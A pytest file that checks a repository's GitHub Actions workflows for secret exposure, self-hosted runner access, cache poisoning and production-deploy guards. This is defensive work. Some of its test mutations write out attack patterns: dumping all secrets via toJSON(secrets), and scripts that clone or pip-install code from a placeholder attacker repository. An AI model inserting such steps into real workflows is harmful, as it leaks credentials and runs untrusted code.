"""What a pull request could reach (issue 18, the review's findings), and the properties that now stop it: each
check of tests/workflows/properties.py run on this repository's workflows and on the workflows as they were
(tests/workflows/issue_18.py), or mutated as an attacker or a careless edit would.
"""

from pathlib import Path

import pytest

from tests.workflows.evaluation import ALL_SECRETS, contexts, events, jobs_of, secrets_of
from tests.workflows.issue_18 import as_in_issue_18
from tests.workflows.loading import (
    CHECK_STEP,
    CONFIRM_STEP,
    DIFF_STEP,
    LISTED,
    check_step,
    current,
    load,
    named_step,
    pulumi_steps,
    stack_tree,
)
from tests.workflows.properties import (
    PRODUCTION_ONLY,
    cache_users,
    deploy_runner_exposure,
    forbidden_triggers,
    misplaced_secrets,
    production_exposure,
    pull_request_exposure,
    pull_request_runners,
    secrets_off_main,
    shared_passphrases,
    state_writers,
    untrusted_checkouts,
)


def test_no_pull_request_job_holds_a_passphrase_a_state_write_key_or_a_production_secret() -> None:
    assert pull_request_exposure(current()) == []
    assert set(pull_request_exposure(as_in_issue_18())) == {
        "preview.yml preview: reads PULUMI_CONFIG_PASSPHRASE",
        "preview.yml preview: reads STATE_ACCESS_KEY_ID",
        "preview.yml preview: reads STATE_SECRET_ACCESS_KEY",
        "preview.yml preview: reads HCLOUD_READ_TOKEN_PRODUCTION",
    }
    # Nor by the back doors: a production environment, every secret at once, a reusable workflow inheriting them.
    sneaky = current()
    job = sneaky["preview.yml"]["jobs"]["staging"]
    job["environment"] = "production"
    job["steps"].append({"run": "echo done", "env": {"ALL": "${{ toJSON(secrets) }}"}})
    sneaky["check.yml"]["jobs"]["reuse"] = {"uses": "./.github/workflows/deploy.yml", "secrets": "inherit"}
    assert set(pull_request_exposure(sneaky)) == {
        "preview.yml staging: enters environment production",
        f"preview.yml staging: reads {ALL_SECRETS}",
        f"check.yml reuse: reads {ALL_SECRETS}",
    }
    # Nor a pull-request stack deployed whenever a pull request changes: its secrets are for approved code only.
    on_change = current()
    on_change["pr-stack.yml"]["on"] = {"pull_request": None}
    assert "pr-stack.yml stack: enters environment pull-request-stacks" in pull_request_exposure(on_change)


def test_no_pull_request_job_runs_on_the_deploy_runner_or_any_self_hosted_one() -> None:
    assert pull_request_runners(current()) == []
    assert pull_request_runners(as_in_issue_18()) == [
        "preview.yml preview: runs on ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }}"
    ]
    labelled = current()
    labelled["check.yml"]["jobs"]["test"]["runs-on"] = ["self-hosted", "deploy"]
    assert pull_request_runners(labelled) == ["check.yml test: runs on ['self-hosted', 'deploy']"]


def test_only_deploys_from_main_reach_the_deploy_runner() -> None:
    assert deploy_runner_exposure(current()) == []
    assert deploy_runner_exposure(as_in_issue_18()) == [
        "preview.yml preview: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on pull_request of refs/pull/7/merge"
    ]
    # Before issue 18 a staging deploy started by hand from any branch ran there too.
    any_branch = current()
    jobs = any_branch["deploy.yml"]["jobs"]
    jobs["stacks"]["if"] = "true"
    jobs["staging"]["if"] = "needs.stacks.outputs.staging != '[]'"
    assert deploy_runner_exposure(any_branch) == [
        "deploy.yml staging: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on workflow_dispatch of refs/heads/feature"
    ]
    # A pull request's stack there: its approved code next to production's SSH port.
    on_runner = current()
    on_runner["pr-stack.yml"]["jobs"]["stack"]["runs-on"] = "${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }}"
    on_runner["pr-stack.yml"]["jobs"]["stack"]["if"] = "github.event_name == 'workflow_dispatch'"
    on_runner["pr-stack.yml"]["jobs"]["pull-request"]["if"] = "github.event_name == 'workflow_dispatch'"
    assert deploy_runner_exposure(on_runner) == [
        "pr-stack.yml stack: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on workflow_dispatch of refs/heads/feature"
    ]


def test_pull_request_target_and_workflow_run_are_never_used() -> None:
    assert forbidden_triggers(current()) == []
    target = as_in_issue_18()
    target["preview.yml"]["on"] = {"pull_request_target": None}
    target["check.yml"]["on"] = {"workflow_run": {"workflows": ["check"]}}
    assert forbidden_triggers(target) == ["check.yml: on workflow_run", "preview.yml: on pull_request_target"]
    assert {name: events(workflow) for name, workflow in current().items()} == {
        "check.yml": {"pull_request", "push"},
        "deploy.yml": {"push", "workflow_dispatch"},
        "pr-stack.yml": {"workflow_dispatch", "schedule"},
        "preview.yml": {"pull_request"},
    }
    assert load("deploy.yml")["on"]["push"] == {"branches": ["main"]}


def test_every_secret_is_read_from_the_environment_that_holds_it() -> None:
    assert misplaced_secrets(current()) == []
    found = misplaced_secrets(as_in_issue_18())
    assert "preview.yml preview: reads PULUMI_CONFIG_PASSPHRASE outside an environment that holds it (None)" in found
    assert len(found) == 7, found
    # Production's passphrase handed to the deploy of staging's stacks: their environments do not hold it.
    crossed = current()
    ((_, step),) = [(job, step) for job, step in pulumi_steps(crossed["deploy.yml"]) if job == "staging"]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_PRODUCTION }}"
    assert misplaced_secrets(crossed) == [
        "deploy.yml staging: reads PULUMI_CONFIG_PASSPHRASE_PRODUCTION outside an environment that holds it (staging)"
    ]
    # A pull-request stack given staging's passphrase: its environment holds no such thing.
    borrowed = current()
    ((_, step),) = [
        (job, step) for job, step in pulumi_steps(borrowed["pr-stack.yml"]) if step["with"]["command"] == "up"
    ]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_STAGING }}"
    assert misplaced_secrets(borrowed) == [
        "pr-stack.yml stack: reads PULUMI_CONFIG_PASSPHRASE_STAGING outside an environment that holds it "
        "(pull-request-stacks)"
    ]


def test_production_secrets_exist_only_in_the_approved_deploy_started_by_hand_on_main() -> None:
    assert {
        "PULUMI_CONFIG_PASSPHRASE_PRODUCTION",
        "STATE_ACCESS_KEY_ID_PRODUCTION",
        "STATE_SECRET_ACCESS_KEY_PRODUCTION",
    } == PRODUCTION_ONLY
    workflows = current()
    assert production_exposure(workflows) == []
    readers = [
        (name, job_name)
        for name, workflow, job_name, job in jobs_of(workflows)
        if secrets_of(workflow, job) & PRODUCTION_ONLY
    ]
    assert readers == [("deploy.yml", "production")]
    assert production_exposure(as_in_issue_18()) == [
        "preview.yml preview: reads ['HCLOUD_READ_TOKEN_PRODUCTION'] without environment production",
        "preview.yml preview: its workflow also runs on ['pull_request']",
        "preview.yml preview: runs on pull_request of refs/pull/7/merge",
        "preview.yml preview: runs without the typed confirmation (confirm: None)",
    ]
    # Without its environment, or dispatched from any branch, the production deploy is caught as well.
    unguarded = current()
    jobs = unguarded["deploy.yml"]["jobs"]
    del jobs["production"]["environment"]
    jobs["stacks"]["if"] = "true"
    jobs["production"]["if"] = "needs.stacks.outputs.production != '[]'"
    assert production_exposure(unguarded) == [
        "deploy.yml production: reads ['PULUMI_CONFIG_PASSPHRASE_PRODUCTION', 'STATE_ACCESS_KEY_ID_PRODUCTION', "
        "'STATE_SECRET_ACCESS_KEY_PRODUCTION'] without environment production",
        "deploy.yml production: runs on workflow_dispatch of refs/heads/feature",
    ]


def test_production_deploys_only_when_confirmed_whatever_the_list_says(tmp_path: Path) -> None:
    # Without the confirmation step, a production deploy would start on any answer.
    unconfirmed = current()
    stacks_steps = unconfirmed["deploy.yml"]["jobs"]["stacks"]["steps"]
    stacks_steps.remove(named_step(unconfirmed["deploy.yml"], "stacks", CONFIRM_STEP))
    assert production_exposure(unconfirmed) == [
        "deploy.yml production: runs without the typed confirmation (confirm: None)"
    ]
    # Production listed as `push`: the list's check stops every run, and the job's own condition holds anyway.
    document = {"stacks": [{**stack, "deploy": "push"} for stack in LISTED]}
    pushed = stack_tree(tmp_path, document)
    assert production_exposure(current(), pushed) == []
    results = {context["needs.stacks.result"] for context in contexts(load("deploy.yml"), pushed)}
    assert results == {"skipped", "failure"}
    # With the list's check gone too, a push still deploys no production stack: the job's own condition and the
    # confirmation, which a production stack needs whatever the list says, each stop it.
    unchecked = current()
    deploy = unchecked["deploy.yml"]
    deploy["jobs"]["stacks"]["steps"].remove(named_step(deploy, "stacks", CHECK_STEP))
    assert production_exposure(unchecked, pushed) == []
    deploy["jobs"]["production"]["if"] = "github.ref == 'refs/heads/main' && needs.stacks.outputs.production != '[]'"
    assert production_exposure(unchecked, pushed) == []
    deploy["jobs"]["stacks"]["steps"].remove(named_step(deploy, "stacks", CONFIRM_STEP))
    assert production_exposure(unchecked, pushed) == [
        "deploy.yml production: runs on push of refs/heads/main",
        "deploy.yml production: runs without the typed confirmation (confirm: None)",
    ]


def test_stacks_are_decrypted_with_distinct_passphrases_by_environment(tmp_path: Path) -> None:
    assert shared_passphrases(current()) == []
    assert shared_passphrases(as_in_issue_18()) == [
        "production is decrypted with ['PULUMI_CONFIG_PASSPHRASE of the repository', "
        "'PULUMI_CONFIG_PASSPHRASE_PRODUCTION of production']",
        "staging is decrypted with ['PULUMI_CONFIG_PASSPHRASE of the repository', "
        "'PULUMI_CONFIG_PASSPHRASE_STAGING of staging']",
        "PULUMI_CONFIG_PASSPHRASE of the repository decrypts production and staging",
        "PULUMI_CONFIG_PASSPHRASE decrypts production and staging",
    ]
    one = current()
    for _, step in pulumi_steps(one["deploy.yml"]):
        step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"
    assert "PULUMI_CONFIG_PASSPHRASE decrypts production and staging" in shared_passphrases(one)
    # A second staging stack in staging's environment would share staging's passphrase, which every branch can read
    # through staging-preview: each stack has an environment of its own.
    tree = stack_tree(tmp_path, extra={"name": "dev", "environment": "staging", "deploy": "push"})
    assert shared_passphrases(current(), tree) == []
    shared = current()
    shared["deploy.yml"]["jobs"]["staging"]["environment"] = "staging"
    assert shared_passphrases(shared, tree) == ["PULUMI_CONFIG_PASSPHRASE_STAGING of staging decrypts dev and staging"]
    # Pull-request stacks never hold a staging stack's passphrase, under its name or their own.
    borrowed = current()
    ((_, step),) = [
        (job, step) for job, step in pulumi_steps(borrowed["pr-stack.yml"]) if step["with"]["command"] == "up"
    ]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_STAGING }}"
    assert "PULUMI_CONFIG_PASSPHRASE_STAGING decrypts pr-* and staging" in shared_passphrases(borrowed)


def test_the_preview_can_only_read_the_state() -> None:
    assert state_writers(current()) == []
    assert state_writers(as_in_issue_18()) == [
        "preview.yml preview: AWS_ACCESS_KEY_ID is not a read-only state key",
        "preview.yml preview: AWS_SECRET_ACCESS_KEY is not a read-only state key",
        "preview.yml preview: refresh is not false",
        "preview.yml preview: upsert is not false",
    ]


def test_secrets_are_held_only_by_runs_from_main() -> None:
    assert secrets_off_main(current()) == []
    anywhere = current()
    for job in anywhere["pr-stack.yml"]["jobs"].values():
        job["if"] = "github.event_name == 'workflow_dispatch'"
    assert secrets_off_main(anywhere) == [
        "pr-stack.yml stack: holds secrets on workflow_dispatch of refs/heads/feature"
    ]


@pytest.mark.parametrize(
    "script",
    [
        "git fetch origin refs/pull/7/head && git checkout FETCH_HEAD",
        "git fetch origin pull/7/head:pr",
        "gh pr checkout 7",
        "git switch pr",
        "git -C . checkout FETCH_HEAD",
        "git reset --hard origin/feature",
        "git pull origin feature",
        "git clone https://github.com/attacker/repo",
        "curl -fsS https://github.com/owner/repo/archive/refs/pull/7/head.tar.gz | tar -x",
        ".venv/bin/pip install git+https://github.com/owner/repo@refs/heads/feature",
        "make venv\npython -m pip install --quiet 'pkg @ git+https://github.com/attacker/pkg'",
    ],
)
def test_no_secret_holding_job_brings_in_other_code_by_script(script: str) -> None:
    """Finding 3: the checks above see actions/checkout only; a `run:` step doing the same in a job that holds
    secrets went unseen. Such a script is caught in every job holding a secret or a token that writes, the
    approved pull-request stack's included (it checks out with actions/checkout, where the rules above apply)."""
    assert untrusted_checkouts(current()) == []
    for workflow, job in (
        ("pr-stack.yml", "stack"),
        ("deploy.yml", "production"),
        ("deploy.yml", "staging"),
        ("preview.yml", "staging"),
        ("pr-stack.yml", "label"),
    ):
        workflows = current()
        workflows[workflow]["jobs"][job]["steps"].insert(1, {"name": "More code", "run": script})
        (found,) = untrusted_checkouts(workflows)
        assert found.startswith(f"{workflow} {job}: a script brings in other code ("), found
    # Where nothing is held, a script may fetch: check.yml reads the base branch's list with git.
    workflows = current()
    workflows["check.yml"]["jobs"]["test"]["steps"].insert(1, {"run": script})
    assert untrusted_checkouts(workflows) == []
    assert "git show" in check_step(DIFF_STEP)["run"]


def test_no_workflow_uses_the_actions_cache() -> None:
    """Finding 2. Approved pull-request code runs in pr-stack.yml's `stack` job, in a run whose ref is main, and
    Actions caches are scoped by ref: an entry a run of main saves, every later run of main restores (and every
    branch; GitHub: "Restrictions for accessing a cache"), the deploy runs included. That code can reach the cache
    service (an action's runtime token is in the environment of what the action starts, `pulumi up` among them),
    so it could leave an entry for a deploy to restore on the deploy runner. What stops that is that nothing
    restores one: no workflow uses actions/cache (any version, restore and save included), nor the cache of a
    setup action (its `cache:` input, or setup-go's cache, on unless turned off)."""
    assert cache_users(current()) == []
    for change, expected in (
        ({"uses": "actions/cache@v4", "with": {"path": ".venv", "key": "venv"}}, "uses actions/cache"),
        ({"uses": "actions/cache/restore@v4", "with": {"path": ".venv", "key": "venv"}}, "uses actions/cache/restore"),
        ({"uses": "actions/setup-python@v5", "with": {"python-version": "3.11", "cache": "pip"}}, "cache: pip"),
        ({"uses": "actions/setup-node@v4", "with": {"cache": "npm"}}, "cache: npm"),
        ({"uses": "actions/setup-go@v5", "with": {"go-version": "1.24"}}, "caches by default"),
    ):
        for workflow, job in (("pr-stack.yml", "stack"), ("deploy.yml", "staging"), ("check.yml", "test")):
            workflows = current()
            workflows[workflow]["jobs"][job]["steps"].insert(1, change)
            (found,) = cache_users(workflows)
            assert found.startswith(f"{workflow} {job}: ") and expected in found, found
    # Turned off, a setup action's cache is no use of it.
    workflows = current()
    workflows["deploy.yml"]["jobs"]["staging"]["steps"].insert(
        1, {"uses": "actions/setup-go@v5", "with": {"cache": False}}
    )
    assert cache_users(workflows) == []
